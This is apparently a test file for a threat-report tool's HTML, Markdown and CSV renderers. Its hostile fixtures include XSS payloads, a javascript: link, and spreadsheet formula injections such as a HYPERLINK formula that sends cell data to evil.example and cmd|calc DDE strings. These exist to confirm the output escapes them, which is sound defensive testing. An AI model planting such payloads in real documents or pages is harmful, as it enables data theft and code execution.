/**
 * Report renderers (HTML, Markdown, CSV): golden files, escaping of hostile partner text, CSV
 * injection and RFC 4180 quoting, TLP markings.
 *
 * Fixtures (test/fixtures/report/):
 * - merged.json: `threatmerge merge samples/ --format json` (contains TLP:RED), a snapshot: it is
 *   not regenerated when the merge changes, so these tests stay about rendering.
 * - merged-amber.json: the same with `--audience amber` (entries withheld).
 * - hostile.json: five hand-written threats that exercise every field, with hostile titles,
 *   formula-like cells, pipes and line breaks, a TLP:RED entry, withheld entries, a rank
 *   disagreement and a refused merge.
 * Golden files: test/golden/report/; `UPDATE_GOLDEN=1 npx vitest run test/render-report.test.ts`
 * rewrites them.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { JointThreat, MergeResult } from '../src/core/merged.js';
import { TLP_LEVELS, type Tlp } from '../src/core/types.js';
import { compileSchema } from '../src/core/validate.js';
import { stripControlChars } from '../src/render/escape.js';
import { CSV_COLUMNS, renderCsv } from '../src/render/report/csv.js';
import { renderHtml } from '../src/render/report/html.js';
import { mdText, renderMarkdown } from '../src/render/report/markdown.js';
import { TLP_INFO, type ReportContext } from '../src/render/report/tlp.js';
import { goldenFiles } from './helpers/golden.js';

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const fixtureDir = path.join(repoRoot, 'test', 'fixtures', 'report');

function fixture(name: string): MergeResult {
  return JSON.parse(readFileSync(path.join(fixtureDir, `${name}.json`), 'utf8')) as MergeResult;
}

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

const expectGolden = goldenFiles('report', 'test/render-report.test.ts');

const CTX: ReportContext = { toolName: 'threatmerge', toolVersion: '0.1.0' };
const AMBER: ReportContext = { ...CTX, audience: 'amber' };

const hostile = fixture('hostile');
const samples = fixture('merged');
const samplesAmber = fixture('merged-amber');

const XSS = '<script>alert(1)</script><img src=x onerror=alert(2)>';

/** A copy of the hostile fixture with values no valid result holds: ids, numbers, markings. */
function evenMoreHostile(): MergeResult {
  const r = clone(hostile);
  const t = r.threats[3]!;
  t.id = 'tm-4"><svg onload=alert(5)>';
  r.disagreements.push({ higher: t.id, lower: 'tm-000000000005', preferLower: ['<u>x</u>'], preferHigher: [] });
  (t as unknown as Record<string, unknown>)['score'] = '<img src=y onerror=alert(7)>';
  (t as unknown as Record<string, unknown>)['likelihood'] = '"><svg onload=alert(8)>';
  (t as unknown as Record<string, unknown>)['tlp'] = '<b>weird</b>';
  t.partners.push('"><svg onload=alert(9)>');
  t.category = '<marquee>' as JointThreat['category'];
  r.partners[0]!.id = 'p-alpha" onmouseover="alert(10)';
  r.parameters['<x>'] = '<svg onload=alert(11)>';
  return r;
}

describe('fixtures', () => {
  const validator = compileSchema(JSON.parse(readFileSync(path.join(repoRoot, 'schemas', 'merged.v1.schema.json'), 'utf8')) as object);
  it.each(['hostile', 'merged', 'merged-amber'])('%s.json follows merged.v1', (name) => {
    expect(validator(fixture(name))).toEqual([]);
  });

  it('hostile.json exercises what the renderers must handle', () => {
    expect(hostile.threats.map((t) => t.title)).toContain(XSS);
    expect(hostile.threats.some((t) => t.title.includes('|') && t.title.includes('\n'))).toBe(true);
    expect(hostile.threats.some((t) => t.tlp === 'red')).toBe(true);
    expect(hostile.withheld.length).toBeGreaterThan(0);
    for (const t of hostile.threats) {
      const sum = t.breakdown.reduce((s, c) => s + c.value, 0);
      expect(sum).toBeCloseTo(t.score, 9);
    }
  });
});

describe('golden files', () => {
  it.each([
    ['hostile.html', () => renderHtml(hostile, CTX)],
    ['hostile.md', () => renderMarkdown(hostile, CTX)],
    ['hostile.csv', () => renderCsv(hostile, CTX)],
    ['samples.html', () => renderHtml(samples, CTX)],
    ['samples.md', () => renderMarkdown(samples, CTX)],
    ['samples.csv', () => renderCsv(samples, CTX)],
    ['samples-amber.md', () => renderMarkdown(samplesAmber, AMBER)],
    ['samples-amber-generated.html', () => renderHtml(samplesAmber, { ...AMBER, generated: '2026-11-01T00:00:00Z' })],
  ] as const)('%s', (name, render) => {
    expectGolden(name, render());
  });
});

describe('every renderer', () => {
  const renderers = { html: renderHtml, markdown: renderMarkdown, csv: renderCsv };
  it.each(Object.entries(renderers))('%s is deterministic, ends with one newline and prints a time only when given', (_, render) => {
    const a = render(samples, CTX);
    expect(render(clone(samples), CTX)).toBe(a);
    expect(a.endsWith('\n')).toBe(true);
    expect(a.endsWith('\n\n')).toBe(false);
    expect(a).not.toMatch(/\d{4}-\d\d-\d\dT\d\d:\d\d/);
    if (render !== renderCsv) expect(render(samples, { ...CTX, generated: '2026-11-01T00:00:00Z' })).toContain('2026-11-01T00:00:00Z');
  });

  it.each(Object.entries(renderers))('%s renders an empty result', (_, render) => {
    const empty = clone(hostile);
    empty.threats = [];
    empty.disagreements = [];
    empty.refused = [];
    expect(render(empty, CTX).endsWith('\n')).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------
// HTML

interface Tag { name: string; closing: boolean; attrs: [string, string | undefined][] }

/**
 * Every `<` of the document must open a well-formed tag (or the doctype): partner text can only
 * reach the output escaped. Returns the tags with their attributes.
 */
function tags(html: string): Tag[] {
  const out: Tag[] = [];
  const tagRe = /^<(\/?)([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s"'=<>/]+(?:="[^"<]*")?)*)\s*\/?>/;
  let i = html.indexOf('<');
  while (i !== -1) {
    const rest = html.slice(i, i + 5000);
    if (rest.startsWith('<!DOCTYPE html>')) {
      i = html.indexOf('<', i + 1);
      continue;
    }
    const m = tagRe.exec(rest);
    if (!m) throw new Error(`stray "<" at ${i}: ${JSON.stringify(html.slice(i, i + 80))}`);
    const attrs: [string, string | undefined][] = [];
    for (const a of m[3]!.matchAll(/\s+([^\s"'=<>/]+)(?:="([^"]*)")?/g)) attrs.push([a[1]!, a[2]]);
    out.push({ name: m[2]!.toLowerCase(), closing: m[1] === '/', attrs });
    i = html.indexOf('<', i + m[0].length);
  }
  return out;
}

const ALLOWED_TAGS = new Set([
  'html', 'head', 'meta', 'title', 'style', 'body', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td', 'main', 'header',
  'footer', 'h1', 'h2', 'h3', 'h4', 'p', 'div', 'span', 'b', 'i', 'a', 'code', 'br', 'nav', 'ol', 'ul', 'li', 'section',
  'article', 'figure', 'figcaption', 'dl', 'dt', 'dd', 'svg', 'g', 'rect', 'text', 'tspan', 'desc', 'strong',
]);
const ALLOWED_ATTRS = new Set([
  'lang', 'charset', 'http-equiv', 'content', 'name', 'class', 'id', 'href', 'rel', 'title', 'style', 'role', 'colspan',
  'rowspan', 'xmlns', 'width', 'height', 'viewbox', 'x', 'y', 'rx', 'fill', 'fill-opacity', 'text-anchor', 'font-size',
  'font-weight', 'transform', 'aria-label', 'aria-labelledby', 'aria-hidden',
]);

/** The checks every rendered HTML document must pass, whatever the input. */
function expectSafeHtml(html: string): void {
  expect(html).not.toMatch(/<script/i);
  expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`);
  const all = tags(html);
  for (const t of all) {
    expect(ALLOWED_TAGS, `tag <${t.name}>`).toContain(t.name);
    for (const [name, value] of t.attrs) {
      expect(ALLOWED_ATTRS, `attribute ${name} on <${t.name}>`).toContain(name.toLowerCase());
      expect(value, `attribute ${name} on <${t.name}> has a quoted value`).toBeDefined();
      if (name === 'href') {
        if (!value!.startsWith('#')) {
          expect(value).toMatch(/^https?:\/\//);
          expect(t.attrs).toContainEqual(['rel', 'noreferrer']);
        }
      }
      if (name === 'style') expect(value).toMatch(/^(width:\d+(\.\d)?%|visibility:hidden|[a-z-]+:[#a-z0-9.:;-]+)$/i);
    }
  }
  // Nothing loads: no resource attributes, no url() or @import in the CSS.
  expect(html).not.toMatch(/\ssrc="/i);
  expect(html).not.toMatch(/url\(/i);
  expect(html).not.toMatch(/@import/i);
  expect(html).not.toMatch(/<(link|iframe|object|embed|img|base|form|input|video|audio|source|image|use)\b/i);
  // URLs in attributes: links (never followed by a browser on its own) and the SVG namespace.
  for (const t of all) {
    for (const [name, value] of t.attrs) {
      if (!/[a-z][a-z0-9+.-]*:/i.test(value ?? '') || name === 'title' || name === 'aria-label' || name === 'content' || name === 'style') continue;
      if (name === 'xmlns') expect(value).toBe('http://www.w3.org/2000/svg');
      else expect([t.name, name], `URL in ${name} on <${t.name}>: ${value}`).toEqual(['a', 'href']);
    }
  }
}

describe('HTML report', () => {
  const html = renderHtml(hostile, CTX);

  it('shows hostile partner text as text, never as markup', () => {
    expectSafeHtml(html);
    expect(html).not.toContain(XSS);
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;');
    expect(html).not.toContain('<i>"quoted"</i>');
    expect(html).toContain('Alpha CERT &lt;i&gt;&quot;quoted&quot;&lt;/i&gt; &amp; Co');
    expect(html).not.toContain('<edge>');
    expect(html).not.toContain('<b>rule</b>');
    expect(html).not.toContain('<b>partner</b>');
    // A reference with a javascript: URL is text, not a link.
    expect(html).not.toMatch(/href="javascript/i);
    expect(html).toContain('<code>javascript:alert(3)</code>');
    expect(html).toContain('<a href="https://example.org/a" rel="noreferrer">https://example.org/a</a>');
    // Only plain http(s) URLs become links; one with quotes or spaces stays text.
    expect(html).toContain('<code>https://example.org/advisory?a=1&amp;b=&quot;2&quot;</code>');
  });

  it('escapes values no valid result holds (ids, numbers, markings, parameters)', () => {
    const out = renderHtml(evenMoreHostile(), CTX);
    expectSafeHtml(out);
    expect(out).not.toMatch(/<svg onload/i);
    expect(out).not.toContain('<marquee>');
    expect(out).not.toContain('<u>x</u>');
    expect(out).not.toMatch(/" onmouseover=/);
    // An unknown marking is treated as the most restrictive one.
    expect(out).toContain('<span class="tlp tlp-red">TLP:RED</span>');
  });

  it('marks the document with the TLP 2.0 banner, colours and wording, top and bottom', () => {
    for (const level of TLP_LEVELS) {
      const r = clone(hostile);
      r.tlp = level;
      for (const t of r.threats) t.tlp = level;
      const out = renderHtml(r, level === 'red' ? CTX : AMBER);
      const info = TLP_INFO[level];
      const banners = out.match(/<div class="banner"[^>]*>.*?<\/div>/g) ?? [];
      expect(banners).toHaveLength(2);
      for (const b of banners) {
        expect(b).toContain(`>${info.label}</span>`);
        expect(b).toContain(`>${info.rule}</span>`);
      }
      expect(out).toContain(`<title>${info.label} — Joint cyber threat priorities</title>`);
      expect(out).toContain(`.${level === 'amber+strict' ? 'tlp-amber-strict' : `tlp-${level}`}{color:${info.colour}}`);
    }
    expect(TLP_INFO['amber+strict'].rule).toBe('Limited disclosure, recipients can only spread this on a need-to-know basis within their organization only.');
    expect(Object.fromEntries(TLP_LEVELS.map((l) => [l, TLP_INFO[l].colour]))).toEqual({
      clear: '#FFFFFF', green: '#33FF00', amber: '#FFC000', 'amber+strict': '#FFC000', red: '#FF2B2B',
    });
    expect(html).toMatch(/\.banner\{background:#000000;/);
  });

  it('warns about TLP:RED only when no audience was given', () => {
    expect(html).toContain('Contains TLP:RED information — no audience was set');
    expect(renderHtml(hostile, AMBER)).not.toContain('Contains TLP:RED information');
    const noRed = clone(hostile);
    noRed.tlp = 'amber+strict';
    noRed.threats[0]!.tlp = 'amber';
    expect(renderHtml(noRed, CTX)).not.toContain('Contains TLP:RED information');
  });

  it('says how many entries were withheld, and from which partners', () => {
    expect(html).toContain('2 entries were withheld from p-beta (2): marked above &lt;TLP:AMBER&gt;.');
    const amber = renderHtml(samplesAmber, AMBER);
    expect(amber).toContain('3 entries were withheld for audience TLP:AMBER from de-bka-cyber (1), eu-cybercrime-centre (1) and nl-police-cyber (1): marked above TLP:AMBER.');
    const none = clone(samples);
    expect(renderHtml(none, CTX)).not.toContain('withheld');
  });

  it('links every title in the priority table to its detail section', () => {
    const out = renderHtml(samples, CTX);
    const prio = out.slice(out.indexOf('<table class="data prio">'), out.indexOf('</table>', out.indexOf('<table class="data prio">')));
    const hrefs = [...prio.matchAll(/<a href="#([^"]+)">/g)].map((m) => decodeURIComponent(m[1]!));
    expect(hrefs).toHaveLength(samples.threats.length);
    for (const id of hrefs) expect(out).toContain(`<article class="threat" id="${id}"`);
  });

  it('counts joint threats in the heat map by rounded likelihood and impact', () => {
    // hostile: (4.5, 4.5) → 5:5, (3.5, 3) → 4:3, (4, 3) → 4:3, (2, 5) → 2:5, (1, 1.5) → 1:2
    expect(html).toContain('<title>Likelihood 4 (likely), impact 3 (moderate): 2 joint threats — #2 Pipe | in title second line');
    expect(html).toContain('<title>Likelihood 5 (almost certain), impact 5 (severe): 1 joint threat — #1 &lt;script&gt;');
    expect(html).toContain('<title>Likelihood 1 (rare), impact 2 (minor): 1 joint threat');
    expect(html).toContain('<title>Likelihood 3 (possible), impact 3 (moderate): 0 joint threats</title>');
    const cells = [...html.matchAll(/<title>Likelihood (\d) \([a-z ]+\), impact (\d) \([a-z]+\): (\d+) joint threats?/g)];
    expect(cells).toHaveLength(25);
    expect(cells.reduce((n, m) => n + Number(m[3]), 0)).toBe(hostile.threats.length);
  });

  it('totals the coverage matrix per partner', () => {
    const out = renderHtml(samples, CTX);
    const foot = out.slice(out.indexOf('<tfoot><tr><th colspan="2">Reported by the partner'));
    const row = (label: string) => [...foot.slice(foot.indexOf(label)).split('</tr>')[0]!.matchAll(/<td>(\d+)<\/td>/g)].map((m) => Number(m[1]));
    expect(row('Reported by the partner')).toEqual(samples.partners.map((p) => samples.threats.filter((t) => t.partners.includes(p.id)).length));
    expect(row('Reported only by this partner')).toEqual(samples.partners.map((p) => samples.threats.filter((t) => t.partners.length === 1 && t.partners[0] === p.id).length));
    expect(out.match(/<tr class="solo">/g)).toHaveLength(samples.threats.filter((t) => t.partners.length === 1).length);
  });

  it('shows each score breakdown with its terms and their sum', () => {
    for (const t of samples.threats) {
      const sum = t.breakdown.reduce((s, c) => s + c.value, 0);
      expect(sum).toBeCloseTo(t.score, 5);
    }
    const out = renderHtml(samples, CTX);
    expect(out.match(/Score \(sum of the terms\)/g)).toHaveLength(samples.threats.length);
    expect(out).toContain(`<td colspan="2">Score (sum of the terms)</td><td class="num"><span class="scorecell">${samples.threats[0]!.score.toFixed(6)}`);
  });

  it('lists rank disagreements and refused merges when there are any', () => {
    expect(html).toContain('id="disagreements"');
    expect(html).toContain('id="refused"');
    const quiet = clone(hostile);
    quiet.disagreements = [];
    quiet.refused = [];
    const out = renderHtml(quiet, CTX);
    expect(out).not.toContain('id="disagreements"');
    expect(out).not.toContain('id="refused"');
  });

  it('has a print stylesheet that repeats the banner and breaks pages between sections', () => {
    expect(html).toContain('@media print{');
    expect(html).toContain('table.page>thead{display:table-header-group}');
    expect(html).toContain('section.major{border:0;border-radius:0;padding:0;margin:0;break-before:page}');
  });
});

// ---------------------------------------------------------------------------------------------
// Markdown

/** Number of `|` not escaped by a backslash. */
function unescapedPipes(line: string): number {
  let n = 0;
  for (let i = 0; i < line.length; i++) {
    if (line[i] === '\\') i++;
    else if (line[i] === '|') n++;
  }
  return n;
}

describe('Markdown report', () => {
  const md = renderMarkdown(hostile, CTX);
  const lines = md.split('\n');

  it('starts and ends with the TLP marking as a bold line', () => {
    expect(lines[0]).toBe('**TLP:RED**');
    expect(lines.at(-2)).toBe('**TLP:RED**');
    expect(renderMarkdown(samplesAmber, AMBER).split('\n')[0]).toBe('**TLP:AMBER**');
  });

  it('warns about TLP:RED and notes withheld entries', () => {
    expect(md).toMatch(/^> ⚠️ \*\*Warning: TLP:RED\.\*\* This report contains 1 joint threat marked TLP:RED/m);
    expect(md).toContain('> **Note:** 2 entries were withheld from p-beta (2): marked above &lt;TLP:AMBER&gt;.');
    expect(renderMarkdown(hostile, AMBER)).not.toContain('Warning: TLP:RED');
  });

  it('keeps every table row at the same number of cells, whatever the titles hold', () => {
    const table = lines.filter((l) => l.startsWith('| '));
    expect(table).toHaveLength(2 + hostile.threats.length);
    for (const row of table) expect(unescapedPipes(row)).toBe(9);
    expect(md).toContain('| 2 | Pipe \\| in title second line with \\*stars\\* \\_under\\_ \\`tick\\` \\[x\\](javascript:alert(1)) \\~strike\\~ \\$math\\$ \\\\ back | phishing |');
  });

  it('lets no raw HTML from partner text survive', () => {
    expect(md).not.toContain('<');
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;');
    expect(renderMarkdown(evenMoreHostile(), CTX)).not.toContain('<');
  });

  it('escapes partner text into one literal line (property)', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme-composite' }), (s) => {
      const out = mdText(s);
      expect(out).not.toMatch(/[\r\n\u2028\u2029<>]/);
      // Every special character is escaped: removing the escapes gives back the text.
      const unescaped = out.replace(/\\([\\|*_`[\]~$])/g, '$1').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
      expect(unescaped).toBe(stripControlChars(s.replace(/\r\n|[\r\n\u0085\u2028\u2029]/g, ' ')));
      expect(unescapedPipes(out)).toBe(0);
    }));
  });
});

// ---------------------------------------------------------------------------------------------
// CSV

/**
 * A strict RFC 4180 parser: CRLF between records (and after the last), `"` only around a whole
 * field, `""` inside. Throws on anything else.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { field += '"'; i += 2; continue; }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`quote inside an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') { i++; continue; }
    if (text[i] === '\r' && text[i + 1] === '\n') {
      i += 2;
      rows.push(row);
      row = [];
      if (i === text.length) return rows;
      continue;
    }
    throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
  }
}

const NUMERIC = new Set(['rank', 'score', 'breadth', 'likelihood', 'impact', 'confidence']);

describe('CSV report', () => {
  const csv = renderCsv(hostile, CTX);
  const rows = parseCsv(csv);
  const records = rows.slice(1).map((r) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]!])));

  it('is RFC 4180 with a header row, UTF-8 without a BOM, one row per joint threat', () => {
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows[0]!.join(',')).toBe('rank,id,title,category,score,breadth,partners,likelihood,impact,confidence,trend,tlp,aliases,actors,malware,cves,techniques,sectors,regions,actions');
    expect(rows).toHaveLength(1 + hostile.threats.length);
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(renderCsv(samples, CTX))).toHaveLength(1 + samples.threats.length);
  });

  it('quotes fields that hold quotes, commas or line breaks, and reads back the same cells', () => {
    expect(records[1]!['title']).toBe(hostile.threats[1]!.title);
    expect(records[1]!['title']).toContain('\n');
    expect(records[0]!['aliases']).toBe('\'+SUM(1,2); Evil "Locker", v2');
    expect(csv).toContain('"\'+SUM(1,2); Evil ""Locker"", v2"');
    expect(records[4]!['title']).toBe('\'@SUM(1+1)*cmd — Müller ☃, "quoted"');
    expect(records[0]!['partners']).toBe('p-alpha; p-beta');
    expect(records[0]!['actions']).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click"); Joint advisory on <edge> devices & MFA');
  });

  it('neutralises formula triggers in text cells and leaves numbers alone', () => {
    expect(records[2]!['title']).toBe('\'=HYPERLINK("https://evil.example","click me")');
    expect(records[3]!['title']).toBe('\'+cmd|\' /C calc\'!A0');
    expect(records[0]!['malware']).toBe('\'-2+3+cmd|\' /C calc\'!A0');
    expect(records[0]!['actors']).toBe('\'@evil-actor');
    expect(records[3]!['regions']).toBe('\'\tTAB');
    expect(records[3]!['aliases']).toBe('\'-minus start');
    expect(records[3]!['actions']).toBe('\'@SUM(1+1)*cmd');
    for (const r of rows.slice(1)) {
      CSV_COLUMNS.forEach((c, i) => {
        const cell = r[i]!;
        if (NUMERIC.has(c)) expect(cell === '' || Number.isFinite(Number(cell)), `${c}=${cell}`).toBe(true);
        else expect(cell, c).not.toMatch(/^[=+\-@\t\r]/);
      });
    }
    expect(records[0]).toMatchObject({ rank: '1', score: '0.75', breadth: '2', likelihood: '4.5', impact: '4.5', confidence: '80', tlp: 'TLP:RED' });
    expect(records[3]!['confidence']).toBe('');
    expect(records[1]!['trend']).toBe('mixed');
  });

  it('round-trips any text cell (property)', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme-composite' }), fc.array(fc.string(), { maxLength: 3 }), (title, aliases) => {
      const r = clone(hostile);
      r.threats = [{ ...r.threats[0]!, title, aliases }];
      const parsed = parseCsv(renderCsv(r, CTX));
      const neutral = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
      expect(parsed[1]![2]).toBe(neutral(stripControlChars(title)));
      expect(parsed[1]![12]).toBe(neutral(aliases.map(stripControlChars).join('; ')));
    }));
  });

  it('treats non-numbers in numeric columns as text', () => {
    const out = parseCsv(renderCsv(evenMoreHostile(), CTX));
    expect(out[4]![4]).toBe('<img src=y onerror=alert(7)>');
    const r = clone(hostile);
    (r.threats[0] as unknown as Record<string, unknown>)['score'] = '=1+1';
    expect(parseCsv(renderCsv(r, CTX))[1]![4]).toBe('\'=1+1');
  });
});

describe('TLP levels', () => {
  it('knows every level', () => {
    expect(Object.keys(TLP_INFO).sort()).toEqual([...TLP_LEVELS].sort());
    for (const level of TLP_LEVELS as readonly Tlp[]) expect(TLP_INFO[level].label).toBe(`TLP:${level.toUpperCase()}`);
  });
});
